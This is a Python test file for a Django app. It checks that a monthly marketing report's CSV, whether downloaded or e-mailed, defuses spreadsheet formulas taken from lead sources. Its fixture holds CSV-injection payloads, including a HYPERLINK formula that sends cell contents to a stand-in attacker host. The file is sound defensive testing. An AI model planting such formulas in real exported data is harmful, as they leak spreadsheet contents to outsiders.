"""The monthly report's CSV, downloaded or attached to the managers' e-mail, never carries a cell that a
spreadsheet would run: lead sources and campaigns arrive from web forms and integrations."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from django.core import mail
from django.urls import reverse
from freezegun import freeze_time

from dashboards.services import digests_send_due
from tests.factories import LeadFactory, StageChangeFactory

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def february_with_a_hostile_source(db):
    for source in (FORMULA, "@SUM(1+1)", "\t=1+1"):
        lead = LeadFactory(source=source)
        StageChangeFactory(lead=lead, from_stage="", to_stage="new", changed_at=datetime(2026, 2, 3, 9, tzinfo=UTC))


def closed_loop_items(text: str) -> set[str]:
    return {row[1] for row in csv.reader(io.StringIO(text)) if row and row[0] == "closed loop"}


@freeze_time("2026-03-02 07:30:00")  # Monday 2 March: the first working day after February
def test_the_downloaded_report_neutralises_formulas(february_with_a_hostile_source, marketer, client_for):
    response = client_for(marketer).get(reverse("meetings:monthly_report_csv", args=[date(2026, 2, 1)]))

    assert response.status_code == 200
    assert closed_loop_items(response.content.decode()) == {"'" + FORMULA, "'@SUM(1+1)", "'\t=1+1"}


@freeze_time("2026-03-02 07:30:00")
def test_the_e_mailed_report_neutralises_formulas(february_with_a_hostile_source, marketing_manager):
    assert digests_send_due()["monthly"] == 1

    (report,) = [m for m in mail.outbox if m.subject == "Smarketing monthly report: February 2026"]
    name, text, mimetype = report.attachments[0]
    assert (name, mimetype) == ("smarketing-report-2026-02.csv", "text/csv")
    assert closed_loop_items(text) == {"'" + FORMULA, "'@SUM(1+1)", "'\t=1+1"}
